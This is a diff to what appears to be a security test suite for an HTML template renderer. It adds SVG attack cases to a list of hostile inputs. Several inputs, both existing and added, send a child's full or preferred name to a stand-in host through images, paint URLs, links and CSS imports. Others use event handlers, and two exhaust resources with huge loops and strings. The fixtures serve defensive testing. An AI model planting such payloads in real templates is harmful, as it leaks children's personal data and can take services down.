@@ -73,6 +73,11 @@ ATTACKS: dict[str, Callable[[Path], None]] = {
     "remote-link": _html("<a href=\"https://example.invalid/{{ child.full_name }}\">More</a>"),
     "remote-css": _html("<style>@import url(https://example.invalid/a.css);</style>"),
     "event-handler": _html("<p onmouseover=\"x()\">{{ child.preferred_name }}</p>"),
+    # Drawings may hold shapes and text, nothing that loads or links.
+    "svg-image": _html("<svg><image href=\"https://example.invalid/{{ child.full_name }}.png\"/></svg>"),
+    "svg-remote-paint": _html("<svg><rect fill=\"url(https://example.invalid/p.svg#{{ child.full_name }})\"/></svg>"),
+    "svg-link": _html("<svg><a href=\"https://example.invalid/\"><text>{{ child.preferred_name }}</text></a></svg>"),
+    "svg-handler": _html("<svg><rect onload=\"x()\"/><text>{{ child.preferred_name }}</text></svg>"),
     "runaway-loops": _html("{% for i in range(100000) %}{% for j in range(100000) %}x{% endfor %}{% endfor %}"),
     "huge-string": _html("{{ 'x' * 10**10 }}"),
 }
